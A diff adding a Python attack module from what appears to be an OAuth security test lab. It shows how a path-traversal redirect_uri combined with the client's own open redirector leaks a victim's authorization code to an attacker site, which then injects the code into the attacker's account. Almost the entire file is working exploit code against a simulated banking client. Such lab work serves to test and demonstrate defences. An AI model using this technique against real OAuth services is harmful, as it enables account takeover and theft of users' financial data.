@@ -1,0 +1,58 @@
+"""open-redirector-leak: FinLens's own /go forwards the code to the attacker (A1).
+
+attacks.md §3 E. FinLens has a partner-offer redirector, /go?url=…, that (off
+tpp_no_open_redirect) goes anywhere and carries along every other parameter. A legacy
+AS accepts any redirect_uri whose path starts with the registered one, so
+https://<tpp>/callback/../go?url=<attacker>/steal passes as FinLens's callback; browsers
+remove the dot segments (RFC 3986 §5.2.4) and land on /go, which appends the code the AS
+added and sends the browser to the attacker. BCP §4.11.1: "Clients MUST NOT expose open
+redirectors"; BCP §2.1: exact matching.
+"""
+
+from __future__ import annotations
+
+import secrets
+from urllib.parse import quote, urlencode
+
+from attacker import fixtures
+from attacker import frontchannel as fc
+from attacker.context import AttackContext
+from attacker.inject import inject_code
+from attacker.model import Attack
+from lab.authserver.clients import TPP_CLIENT_ID
+
+STEAL_PATH = "/steal"
+
+
+def run(ctx: AttackContext) -> None:
+    fx = fixtures.ensure_running(ctx)
+    since = fx.mark()
+    redirect_uri = ctx.url("tpp", "/callback/../go?url=") + quote(fx.site + STEAL_PATH, safe="")
+    url = ctx.url("as", "/authorize") + "?" + urlencode({
+        "response_type": "code", "client_id": TPP_CLIENT_ID, "redirect_uri": redirect_uri,
+        "scope": fc.FINLENS_SCOPE, "state": secrets.token_urlsafe(16)})
+    ctx.step("attacker", "builds an authorization request for FinLens's client_id whose "
+             "redirect_uri goes through FinLens's /go redirector to its own site", url=url)
+    victim = ctx.victim("alice")
+    victim.sign_in()
+    result = victim.authorize(fx.site + "/lure?to=" + quote(url, safe=""), deliver=False)
+    # The browser opens the callback and follows /go's redirect (status checked via the log).
+    victim.visit(result.callback_url or "")
+    got = [r for r in fx.received(ctx, "site", since=since, path=STEAL_PATH)
+           if r.query().get("code")]
+    if not got:
+        ctx.failed("FinLens's /go did not forward the code to the attacker's site")
+    params = got[-1].query()
+    ctx.step("attacker", "reads the victim's code, forwarded by FinLens's /go, from its "
+             "site's log")
+    inject_code(ctx, params["code"], victim.username, iss=params.get("iss"),
+                source="FinLens forwarded to its site")
+
+
+ATTACK = Attack(
+    id="open-redirector-leak", attacker="A1", legs=("own",), victim="live",
+    premise="Runs the attacker site; knows FinLens's client_id, redirect URI and its /go "
+            "partner redirector (public); the victim follows its link and consents.",
+    goal="the attacker's FinLens account shows the victim's accounts", run=run,
+    refs=("BCP §4.11.1", "BCP §2.1", "FAPI2 §5.3.3.1", "RFC 3986 §5.2.4"),
+)
